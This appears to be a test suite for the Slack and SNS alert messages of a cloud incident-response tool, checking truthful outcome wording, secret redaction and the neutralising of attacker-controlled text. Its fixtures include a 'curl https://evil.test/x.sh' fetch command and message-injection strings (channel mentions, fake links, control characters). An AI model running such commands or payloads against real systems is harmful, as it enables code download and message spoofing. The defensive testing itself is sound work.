import { readFileSync } from "node:fs";
import { Ajv2020 } from "ajv/dist/2020.js";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { renderSlack } from "#shared/notify/slack.ts";
import { SLACK_LIMITS } from "#shared/notify/slack-parts.ts";
import { renderSns, SNS_LIMITS } from "#shared/notify/sns.ts";
import { ALERT, anyView, decision, POD, receipt, TASK, view } from "./views.ts";

const schema: unknown = JSON.parse(readFileSync(new URL("../../infra/schemas/notification.json", import.meta.url), "utf8"));
const ajv = new Ajv2020({ strict: true, allowUnionTypes: true, formats: { "date-time": true, uri: true } });
const valid = ajv.compile(schema as object);

const slackText = (one: Parameters<typeof renderSlack>[0]) => JSON.stringify(renderSlack(one));
/** mrkdwn outside code spans. */
const outsideCode = (text: string) => text.replace(/`[^`]*`/g, "");
const mrkdwns = (one: Parameters<typeof renderSlack>[0]) =>
  renderSlack(one)
    .blocks.flatMap((block) => (block.type === "section" ? [block.text] : block.type === "context" ? block.elements : []))
    .map((text) => text.text);

test.each(["http://evil.test/a", "ｈｔｔｐ：／／evil.test/a", "ｗｗｗ．evil.test"])("the subject links nothing: %s", (rule) => {
  const { subject } = renderSns(view({ alert: { ...ALERT, rule } }));
  expect(subject).toContain("evil");
  expect(subject).not.toMatch(/http:|:\/\/|www\.evil/i);
});

describe("the report is true", () => {
  const says = (one: Parameters<typeof renderSns>[0]) => `${renderSns(one).subject}\n${renderSns(one).text}`;

  test("a stop that is only accepted is never called stopped, one that is verified is", () => {
    const accepted = says(view({ receipts: [receipt("requested")] }));
    expect(accepted).toContain("requested, not confirmed");
    expect(accepted).not.toContain("Task stopped");
    expect(accepted).not.toContain("All containers of this task have stopped");
    const done = says(view({ receipts: [receipt("done")] }));
    expect(done).toContain("Task stopped");
    expect(done).toContain("done and verified, 4.2 s after the alert");
  });

  test("an isolation whose time is over is never told as let go: it is ended, or a person is asked with the very command", () => {
    const quarantined = {
      ...receipt("done", "kubernetes:quarantine", "isolated"),
      undo: { possible: true, says: "releases it", keep: {} },
    } as const;
    const timed = (outcome: "done" | "requested" | "refused", how: "ended" | "asked") =>
      says(
        view({
          workload: POD,
          receipts: [quarantined, { ...receipt(outcome, "kubernetes:quarantine", "its time was over"), undoing: true, timed: how }],
        }),
      );
    const ended = timed("done", "ended");
    expect(ended).toContain("Ended when its time was over, the pod that was quarantined is gone");
    expect(ended).not.toContain("To take it back");
    expect(ended).not.toContain("as before");
    expect(timed("requested", "ended")).toContain("Its time is over, ending of the pod that was quarantined requested, not confirmed");
    expect(timed("refused", "ended")).toContain("NOT ended although its time is over");
    const asked = timed("refused", "asked");
    expect(asked).toContain("Your answer is needed, the time of it is over: the pod is still quarantined");
    expect(asked).toMatch(/To end it for good: \s*.*approve .*--action kubernetes:terminate/);
    expect(asked).toMatch(/To take it back: \s*.*undo .*--action kubernetes:quarantine/);
  });

  test("an action that ends nobody is not told as under way when it is done", () => {
    const text = says(view({ workload: POD, receipts: [receipt("done", "kubernetes:cordon", "node node-1 is cordoned")] }));
    expect(text).not.toContain("under way");
    expect(text).toContain("stands above. The process may still be running");
    expect(says(view({ decisions: [decision("act")], receipts: [] }))).toContain("under way");
  });

  test("observe says what would have been done and that nothing was touched", () => {
    const text = says(view({ decisions: [decision("would-act")] }));
    expect(text).toContain("would have stopped the task");
    expect(text).toContain("Nothing was touched");
    expect(text).not.toContain("Task stopped");
  });

  test.each([
    ["hold", "Held, nothing touched", "nothing happens until a person decides"],
    ["await-approval", "Waiting for approval", "nothing happens until a person decides"],
    ["act", "no result yet", "A second message tells the outcome"],
  ] as const)("a decision to %s without receipt says %s", (kind, headline, meaning) => {
    const text = says(view({ decisions: [decision(kind, "ecs:stop-task", "because of the test")] }));
    expect(text).toContain(headline);
    expect(text).toContain(meaning);
    expect(text).toContain("because of the test");
  });

  test.each([
    ["failed", "FAILED to stop the task", "was not touched by this action"],
    ["unknown", "UNKNOWN whether the task was stopped", "Treat it as still running"],
    ["refused", "Not stopped", "was not touched by this action"],
    ["skipped", "Nothing left to do", "already ended"],
  ] as const)("the outcome %s says %s", (outcome, headline, meaning) => {
    const text = says(view({ receipts: [receipt(outcome)] }));
    expect(text).toContain(headline);
    expect(text).toContain(meaning);
  });

  test("what a stop does not cut is said: stolen credentials, and the replacement that a service starts", () => {
    const text = says(view({ receipts: [receipt("done")] }));
    expect(text).toContain("NOT cut off: credentials of the task role");
    expect(text).toContain("ECS starts a replacement");
    expect(says(view({ receipts: [receipt("done")], workload: { ...TASK, service: null } }))).not.toContain("ECS starts a replacement");
  });

  test("a deleted pod names its controller; a bare one does not come back", () => {
    const pod = {
      cluster: { name: "shop", kind: "eks", awsName: "shop", region: "eu-west-1" } as const,
      receipts: [receipt("done", "kubernetes:terminate")],
      decisions: [decision("act", "kubernetes:terminate")],
    };
    expect(says(view({ ...pod, workload: POD }))).toContain("Its Deployment makes a replacement");
    expect(says(view({ ...pod, workload: { ...POD, owner: null } }))).toContain("does not come back by itself");
  });

  test("the worst of several outcomes is the headline", () => {
    expect(renderSns(view({ receipts: [receipt("done"), receipt("unknown")] })).attributes.outcome).toBe("unknown");
    expect(renderSns(view({ receipts: [receipt("done")] })).attributes.outcome).toBe("done");
  });

  test("an unverified container is called a claim, a verified task is not", () => {
    expect(says(view({ workload: null, decisions: [decision("hold")] }))).toContain("Not verified; the alert claims container");
    expect(says(view())).not.toContain("Not verified");
  });

  test("a line from an unregistered stream says so and what to do, a registered one does not", () => {
    const accuser = { account: "1", logGroup: "/other", logStream: "s", eventId: "1", verified: false, because: "no entry binds /other" };
    expect(says(view({ accuser, workload: null, decisions: [] }))).toContain("who can write to this log stream");
    expect(says(view({ accuser: { ...accuser, verified: true, because: null }, workload: null, decisions: [] }))).not.toContain(
      "who can write",
    );
  });
});

describe("what a person can do next", () => {
  test("the log event and the task are linked in Slack", () => {
    const text = slackText(view());
    expect(text).toContain(
      "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Ffalco$252Fprod/log-events/falco$252Ffalco$252Fabc$3FrefEventId$3D3756|open the log event>",
    );
    expect(text).toContain("/ecs/v2/clusters/payments-prod/tasks/0123456789abcdef0123456789abcdef/");
  });

  test("a held task comes with the command that stops it, a stopped one with the search for its replacement", () => {
    const held = renderSns(view({ decisions: [decision("hold")] })).text;
    expect(held).toContain(
      "aws ecs stop-task --cluster arn:aws:ecs:eu-west-1:123456789012:cluster/payments-prod --region eu-west-1 --task arn:",
    );
    const stopped = renderSns(view({ receipts: [receipt("done")] })).text;
    expect(stopped).toContain("aws ecs list-tasks");
    expect(stopped).not.toContain("stop-task --cluster");
  });

  test("similar alerts are counted", () => {
    expect(renderSns(view({ count: 41, lastAlertAtMs: (ALERT.timeMs ?? 0) + 90_000 })).text).toContain(
      "At least 41 similar alerts so far within 2 min",
    );
    expect(renderSns(view()).text).not.toContain("similar alerts");
  });
});

describe("texts of others do nothing", () => {
  const trick = "`<!channel>` <https://evil.test|ok> & @here \u202e\u001b[31m\n# *x*";

  test("in Slack they stand in code spans that they cannot leave", () => {
    const one = view({
      alert: { ...ALERT, rule: trick, fields: { "proc.cmdline": trick } },
      decisions: [decision("hold", "ecs:stop-task", trick)],
      rule: trick,
    });
    for (const text of mrkdwns(one)) {
      expect(text.replace(/[^`]/g, "").length % 2).toBe(0);
      expect(outsideCode(text)).not.toMatch(/evil|<!|@here|\*x/);
    }
    expect(slackText(one)).not.toMatch(/<!|<https:..evil|\u202e|\\u001b/);
  });

  test("in mail a link of an attacker is no link, ours is one", () => {
    const { text } = renderSns(view({ alert: { ...ALERT, fields: { "proc.cmdline": "curl https://evil.test/x.sh" } } }));
    expect(text).toContain("curl hxxps[:]//evil.test/x.sh");
    expect(text).toContain("https://eu-west-1.console.aws.amazon.com/");
  });

  test("secrets are gone from every form, the command stays readable", () => {
    const secret = "hunter2hunter2";
    const fields = {
      "proc.cmdline": `mysql -u root -p${secret} app`,
      "proc.env[DB_PASSWORD]": secret,
      "fd.name": `https://u:${secret}@h/x`,
    };
    const one = view({
      alert: { ...ALERT, output: `shell (command=mysql --password=${secret})`, fields },
      receipts: [receipt("failed", "ecs:stop-task", `token=${secret}`)],
    });
    for (const text of [slackText(one), JSON.stringify(renderSns(one))]) {
      expect(text).not.toContain(secret);
      expect(text).toContain("mysql -u root -p[redacted] app");
    }
  });
});

function checkHeader(text: string) {
  expect(text.length).toBeGreaterThan(0);
  expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.header);
  expect(text).not.toMatch(/[\n\r\u202e\u200b<>]|:\/\//);
}

function checkMrkdwn(text: string) {
  expect(text.length).toBeGreaterThan(0);
  expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.section);
  expect(text.isWellFormed()).toBe(true);
  for (const line of text.split("\n")) expect(line.replace(/[^`]/g, "").length % 2).toBe(0);
  for (const [link] of text.matchAll(/<[^>]*>/g))
    expect(link).toMatch(/^<https:\/\/[a-z0-9-]+\.console\.(aws\.amazon\.com|amazonaws[a-z.-]*)\/[^\s<>|]+\|[\w ]+>$/);
  expect(text.replace(/<[^>]*>/g, "")).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
}

describe("whatever an alert says", () => {
  test("Slack's payload is within its limits, linked nowhere but to the console, with even backticks", () => {
    fc.assert(
      fc.property(anyView, (one) => {
        const payload = renderSlack(one);
        expect(payload.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
        expect(payload.text.length).toBeGreaterThan(0);
        expect(payload.text.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
        expect(payload.text).not.toMatch(/[<>]|:\/\/|[\n\r]/);
        for (const block of payload.blocks) {
          if (block.type === "header") checkHeader(block.text.text);
          if (block.type === "section") checkMrkdwn(block.text.text);
          if (block.type === "context") for (const element of block.elements) checkMrkdwn(element.text);
        }
        expect(JSON.stringify(payload)).not.toContain("hunter2hunter2");
      }),
      { numRuns: 100 },
    );
  });

  test("SNS's message is within its limits, valid by the published schema, and filterable", () => {
    fc.assert(
      fc.property(anyView, (one) => {
        const { subject, text, body, attributes } = renderSns(one);
        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
        expect(subject).toMatch(/^[A-Za-z0-9]/);
        const document: unknown = JSON.parse(body);
        expect(valid(document), JSON.stringify(valid.errors)).toBe(true);
        expect(
          Buffer.byteLength(JSON.stringify({ default: body, email: text })) + Buffer.byteLength(JSON.stringify(attributes)),
        ).toBeLessThan(SNS_LIMITS.bytes);
        expect(text).not.toMatch(/(?<!: )https?:\/\//);
        expect(text.isWellFormed()).toBe(true);
        expect(text + body).not.toContain("hunter2hunter2");
        expect(Object.keys(attributes)).toEqual(["incident", "phase", "cluster", "priority", "rule", "falcoRule", "decision", "outcome"]);
        for (const attribute of Object.values(attributes))
          expect(attribute.length > 0 && attribute.length <= 256 && !/\p{Cc}/u.test(attribute)).toBe(true);
      }),
      { numRuns: 100 },
    );
  });
});

describe("several actions in one message", () => {
  const waiting = decision("await-approval", "ecs:scale-service-to-zero");
  const asked = view({ decisions: [decision("act"), waiting], receipts: [receipt("done")] });
  const isolated = receipt("done", "ecs:isolate-instance", "1 interface has exactly sg-1");
  const undone = { ...isolated, undoing: true, because: "has its former groups again" } as const;

  test("a question that waits is in the headline and comes with the very command; one that was answered is not", () => {
    const { subject, text } = renderSns(asked);
    expect(subject).toContain("Task stopped, your answer is needed to scale to zero the service");
    expect(text).toContain(
      "npm run responder -- approve inc-0123456789abcdef --action ecs:scale-service-to-zero --target 0123456789abcdef0123456789abcdef --stage prod",
    );
    const answered = renderSns(view({ ...asked, receipts: [receipt("done"), receipt("done", "ecs:scale-service-to-zero")] }));
    expect(`${answered.subject}${answered.text}`).not.toMatch(/your answer|responder -- approve/);
  });

  test("what was taken back is the headline, and no more offered to be taken back; before that it is", () => {
    const undo = { possible: true, says: "gives the groups back", keep: {} } as const;
    const before = renderSns(view({ phase: "outcome", receipts: [{ ...isolated, undo }] }));
    expect(before.subject).toContain("EC2 instance isolated");
    expect(before.text).toContain("responder -- undo");
    const after = renderSns(view({ phase: "outcome", receipts: [{ ...isolated, undo }, undone] }));
    expect(after.subject).toContain("Taken back, the EC2 instance");
    expect(after.text).not.toContain("responder -- undo");
  });

  test("an undo that others' changes stopped does not hide that the action stands", () => {
    const refused = { ...undone, outcome: "refused", because: "not overwritten: eni-1 has other groups" } as const;
    const { text } = renderSns(view({ phase: "outcome", receipts: [isolated, refused] }));
    expect(text).toContain("What others changed since then was not overwritten");
    expect(text).toContain("ecs:isolate-instance: done and verified");
  });

  test("remarks are told with their receipt, and are inert however hostile a name in them is", () => {
    const { text } = renderSns(view({ receipts: [{ ...isolated, remarks: ["cut with it: <https://evil.example|click>\n*bold*"] }] }));
    expect(text).toContain("Note: cut with it");
    expect(text).not.toContain("\n*bold*");
  });
});
